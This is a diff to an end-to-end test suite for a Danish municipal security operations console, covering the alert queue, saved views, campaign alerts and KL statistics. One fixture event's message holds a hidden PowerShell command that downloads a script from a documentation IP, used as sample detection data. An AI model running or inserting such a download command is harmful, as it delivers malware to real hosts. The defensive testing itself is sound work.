@@ -1,13 +1,32 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { Queue } from 'bullmq';
 import type { Browser, Page } from 'playwright-core';
-import { detectionContributionId, detectionFingerprint, type Detection } from '@soc/contracts';
+import { detectionContributionId, detectionFingerprint, type Detection, type SocEvent } from '@soc/contracts';
 import { createRedis, type Redis } from '@soc/redis';
+import { EventRepository, IndexNames } from '@soc/storage';
+import { bulkLoad } from '../../libs/storage/src/testing/bulk-load';
+import { daysFrom, memberDayEvents, membersFileOfRanges } from '../../libs/statistics/src/testing/generated-attempts';
 import { launchChromium } from './support/browser';
-import { clientToken, seriousAxeViolations, signInToConsole, socIssuer } from './support/console-browser';
+import { clientToken, screenshotIfAsked, seriousAxeViolations, signInToConsole, socIssuer } from './support/console-browser';
 import { E2eDeployment } from './support/deployment';
 import { AppProcess, freePort, waitFor } from './support/stack';
 
 type Level = Detection['rule']['level'];
+
+/**
+ * KL's figures: 12 municipalities report each of 8 days 40 to 33 days ago (cells are published
+ * only once final, 31 days after: docs/STATISTICS.md), ordinary attempts
+ * (0–11 a day) and one member-day in eight above the threshold (201–204), straight into the events
+ * indices (the statistics read them there; docs/STATISTICS.md).
+ */
+function publishedAttemptEvents(): Array<Record<string, unknown>> {
+  const first = new Date(Date.now() - 40 * 86_400_000).toISOString().slice(0, 10);
+  return daysFrom(first, 8).flatMap((day, d) =>
+    Array.from({ length: 12 }, (_, m) => memberDayEvents(m, day, (m * 5 + d * 3) % 8 === 0 ? 201 + (m % 4) : (m * 7 + d * 5) % 12).events).flat(),
+  );
+}
 
 /** A Sigma rule's detection (author and references, as a Sigma rule file gives them) for one member and attacker. */
 function detection(member: string, attacker: string, level: Level, title: string): Detection {
@@ -72,10 +91,14 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
 
   const expectNoSeriousAxeViolations = async (page: Page) => expect(await seriousAxeViolations(page)).toEqual([]);
 
+  // Each municipality's own network range, so the statistics can tell attempts from outside.
+  const membersDir = mkdtempSync(join(tmpdir(), 'e2e-console-members-'));
+
   beforeAll(async () => {
+    writeFileSync(join(membersDir, 'members.json'), JSON.stringify(membersFileOfRanges()));
     deployment = await E2eDeployment.create({
       rules: {},
-      env: { OIDC_ISSUER: socIssuer, OIDC_AUDIENCE: 'soc-api', CONSOLE_PORT: String(await freePort()) },
+      env: { OIDC_ISSUER: socIssuer, OIDC_AUDIENCE: 'soc-api', CONSOLE_PORT: String(await freePort()), MEMBERS_FILE: join(membersDir, 'members.json') },
     });
     const env = deployment.env;
     alerting = new AppProcess('alerting', env).start();
@@ -89,6 +112,10 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     queueRedis = createRedis(env.REDIS_URL, 'worker', 'e2e-console-queue-detections');
     detections = new Queue(env.DETECTIONS_QUEUE, { connection: queueRedis });
     analystToken = await clientToken('soc-automation-analyst', 'soc-automation-analyst-dev-secret');
+    // alerting is ready, so its events index template is in place for the generated events.
+    const names = new IndexNames(env.INDEX_PREFIX);
+    await bulkLoad(deployment.es, publishedAttemptEvents(), (event) => names.eventsIndexFor(String(event['@timestamp'])));
+    await deployment.es.indices.refresh({ index: `${env.INDEX_PREFIX}-events-*` });
     await raise(
       detection('0751', '198.51.100.10', 'high', 'SSH brute force'),
       detection('0461', '198.51.100.11', 'critical', 'Ransomware note written'),
@@ -102,6 +129,7 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     await detections?.close();
     queueRedis?.disconnect();
     await deployment?.close([consoleApp, alerting].filter(Boolean));
+    rmSync(membersDir, { recursive: true, force: true });
   });
 
   it("shows an analyst every member's open alerts, critical first, in Danish, with no serious accessibility violation", async () => {
@@ -114,6 +142,7 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     await expect(page.locator('h2#queue-title').textContent()).resolves.toBe('Alarmkø');
     await expect(page.locator('html').getAttribute('lang')).resolves.toBe('da');
     await expectNoSeriousAxeViolations(page);
+    await screenshotIfAsked(page, 'analyst-queue');
     await context.close();
   });
 
@@ -208,7 +237,36 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     await context.close();
   });
 
+  it('saves the filters as a named view in the browser and applies it again after a reload', async () => {
+    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
+    await page.waitForSelector('#alert-rows tr');
+    await page.selectOption('#filter-severity', 'critical');
+    await page.click('#filter-apply');
+    await waitFor(async () => (await page.locator('#alert-rows tr').count()) === 1, 30_000);
+    await page.fill('#view-name', 'Kritiske');
+    await page.click('#view-save');
+    await page.reload();
+    await page.waitForSelector('#alert-rows tr');
+    expect((await rowsOf(page)).length).toBeGreaterThan(1);
+    await page.click('#saved-views button:text-is("Kritiske")');
+    await waitFor(async () => (await page.locator('#alert-rows tr').count()) === 1, 30_000);
+    await expect(page.locator('#filter-severity').inputValue()).resolves.toBe('critical');
+    await expectNoSeriousAxeViolations(page);
+    await context.close();
+  });
+
   it("opens an alert's detail from the queue with Enter: the Sigma rule's author and references, a comment, the audit trail", async () => {
+    // The event behind the detection (its event_ids), where the indexer would have put it.
+    const behind = {
+      '@timestamp': new Date().toISOString(),
+      event: { id: 'e-0751-198.51.100.50', kind: 'event', action: 'powershell-download', outcome: 'success' },
+      organization: { id: '0751' },
+      host: { name: 'ws-aarhus-17' },
+      source: { ip: '198.51.100.50' },
+      message: 'powershell.exe -nop -w hidden -c iwr http://198.51.100.50/a.ps1',
+    } as unknown as SocEvent;
+    await new EventRepository(deployment.es, new IndexNames(deployment.env.INDEX_PREFIX)).bulkIndex([behind]);
+    await deployment.es.indices.refresh({ index: `${deployment.env.INDEX_PREFIX}-events-*` });
     const { 'Suspicious PowerShell download': id } = await raise(detection('0751', '198.51.100.50', 'critical', 'Suspicious PowerShell download'));
     const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
     await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`);
@@ -218,6 +276,8 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     expect(new URL(page.url()).hash).toBe(`#/alerts/${id}`);
     await expect(page.locator('#rule-author').textContent()).resolves.toBe('Kommunernes SOC');
     await expect(page.locator('#rule-references a').getAttribute('href')).resolves.toBe('https://attack.mitre.org/techniques/T1110/');
+    const timeline = await page.locator('#detail-events tbody tr').evaluateAll((trs: any[]) => trs.map((tr) => [tr.dataset.eventId, tr.textContent]));
+    expect(timeline).toEqual([['e-0751-198.51.100.50', expect.stringContaining('powershell-download · success198.51.100.50ws-aarhus-17powershell.exe')]]);
     await page.fill('#comment-text', 'Ringet til kommunens IT-vagt');
     await page.click('#comment-post');
     await page.waitForSelector('#detail-comments li');
@@ -225,6 +285,7 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     expect((await alertFromApi(id)).comments).toEqual([expect.objectContaining({ text: 'Ringet til kommunens IT-vagt', by_name: 'Anna Andersen' })]);
     await page.waitForSelector('#detail-audit tr[data-action="created"]');
     await expectNoSeriousAxeViolations(page);
+    await screenshotIfAsked(page, 'alert-detail');
     await context.close();
   });
 
@@ -241,6 +302,24 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     expect(new Set((await rowsOf(page)).map((r) => r.member))).toEqual(new Set(['0751']));
     await expectNoSeriousAxeViolations(page);
 
+    // A campaign over Aarhus, Odense and another member: Aarhus is told how many others, never who.
+    await raise({
+      ...detection('shared-soc', '198.51.100.61', 'high', 'Campaign across members'),
+      kind: 'campaign',
+      campaign: { members: ['0751', '0461', '0101'] },
+    });
+    await waitFor(
+      async () => (await alertFromApi(ids['Aarhus only']!)).campaign?.id !== undefined,
+      30_000,
+      () => alerting.log,
+    );
+    await page.goto(`${consoleApp.url}/#/alerts/${ids['Aarhus only']}`);
+    await page.waitForSelector('#detail-campaign');
+    await expect(page.locator('#detail-campaign').textContent()).resolves.toBe('2 andre kommuner er berørt');
+    const shown = await page.locator('main').textContent();
+    expect(shown).not.toMatch(/0461|0101|shared-soc/);
+    await screenshotIfAsked(page, 'member-alert-detail');
+
     await page.goto(`${consoleApp.url}/#/alerts/${ids['Odense only']}`);
     await page.waitForSelector('#detail-error');
     await expect(page.locator('#detail-error').textContent()).resolves.toBe(`Fejl: no alert ${ids['Odense only']}`);
@@ -250,6 +329,10 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
   it('shows KL the statistics charts and their table with a CSV export, no alert queue, with no serious accessibility violation', async () => {
     const { context, page } = await signInToConsole(browser, consoleApp.url, 'karen.kl');
     await page.waitForSelector('#statistics-rows tr');
+    // The generated days are published (12 municipalities), the days without data withheld.
+    expect(await page.locator('#statistics-rows tr:not([data-suppressed])').count()).toBeGreaterThanOrEqual(7);
+    expect(await page.locator('#statistics-rows tr[data-suppressed]').count()).toBeGreaterThan(0);
+    expect(await page.locator('#chart-median circle.median').count()).toBeGreaterThanOrEqual(7);
     expect(await page.locator('#chart-median svg').count()).toBe(1);
     expect(await page.locator('#chart-share svg').count()).toBe(1);
     expect(await page.locator('#alerts').count()).toBe(0);
@@ -262,6 +345,7 @@ describe('console: the alert queue, live updates, keyboard triage, detail and KL
     expect(csv.type).toMatch(/^text\/csv/);
     expect(csv.text.split('\n')[0]).toContain('bucket');
     await expectNoSeriousAxeViolations(page);
+    await screenshotIfAsked(page, 'kl-statistics');
     await page.goto(`${consoleApp.url}/#/queue`);
     await expect(page.locator('main [role="status"]').textContent()).resolves.toBe('Siden findes ikke.');
     await context.close();
